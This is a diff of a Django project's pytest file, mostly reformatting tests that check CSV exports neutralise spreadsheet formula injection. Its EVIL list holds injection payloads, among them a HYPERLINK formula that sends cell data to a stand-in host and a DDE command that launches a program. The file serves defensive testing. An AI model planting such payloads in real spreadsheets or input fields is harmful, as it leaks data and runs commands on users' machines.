@@ -13,8 +13,15 @@ from django.urls import reverse
 
 from klaster.core.exports import csv_text, workbook_bytes
 
-EVIL = ['=HYPERLINK("http://zlo.example/?x="&A1,"Kliknij")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
-        "@SUM(1,1)", "\t=1+1", "\r=1+1"]
+EVIL = [
+    '=HYPERLINK("http://zlo.example/?x="&A1,"Kliknij")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("value", EVIL)
@@ -22,7 +29,9 @@ def test_issue7_csv_text_neutralises_formula_starts(value):
     assert csv_text(value) == "'" + value
 
 
-@pytest.mark.parametrize("value", ["Alfa-Tech sp. z o.o.", "", "biuro@example.pl", 5, None, dt.date(2026, 1, 1)])
+@pytest.mark.parametrize(
+    "value", ["Alfa-Tech sp. z o.o.", "", "biuro@example.pl", 5, None, dt.date(2026, 1, 1)]
+)
 def test_issue7_csv_text_keeps_ordinary_values(value):
     assert csv_text(value) == value
 
@@ -59,9 +68,11 @@ def test_issue7_group_contacts_csv_first_column_is_text(world, client_for):
 
     group = it_group(world)
     Declaration.objects.filter(group=group, member=world.member_a).update(
-        contact_name=EVIL[1], contact_email="a@example.pl")
-    response = client_for("member").get(reverse("group_contacts_csv", kwargs={"slug": "alfa",
-                                                                             "group_id": group.pk}))
+        contact_name=EVIL[1], contact_email="a@example.pl"
+    )
+    response = client_for("member").get(
+        reverse("group_contacts_csv", kwargs={"slug": "alfa", "group_id": group.pk})
+    )
     assert response.status_code == 200
     assert _evil_cell(_rows(response), EVIL[1])
 
@@ -80,7 +91,8 @@ def test_issue7_group_export_csv_is_text(world, client_for):
 def test_issue7_vote_results_csv_is_text(world, client_for):
     from django.utils import timezone
 
-    from klaster.governance.models import Ballot, Vote
+    from klaster.governance.models import Vote
+    from tests.factories import BallotFactory
     from tests.governance.matrix import vote
 
     v = Vote.objects.get(pk=vote(world))
@@ -88,9 +100,17 @@ def test_issue7_vote_results_csv_is_text(world, client_for):
     v.save(update_fields=["title"])
     world.member_a.name = EVIL[1]
     world.member_a.save(update_fields=["name"])
-    Ballot.objects.create(vote=v, member=world.member_a, choice="for", cast_by_name="@Jan", via="own",
-                          cast_at=timezone.now())
-    response = client_for("office").get(reverse("vote_results_csv", kwargs={"slug": "alfa", "vote_id": v.pk}))
+    BallotFactory(
+        vote=v,
+        member=world.member_a,
+        choice="for",
+        cast_by_name="@Jan",
+        via="own",
+        cast_at=timezone.now(),
+    )
+    response = client_for("office").get(
+        reverse("vote_results_csv", kwargs={"slug": "alfa", "vote_id": v.pk})
+    )
     assert response.status_code == 200
     rows = _rows(response)
     assert _evil_cell(rows, EVIL[1]) and _evil_cell(rows, EVIL[2]) and _evil_cell(rows, "@Jan")
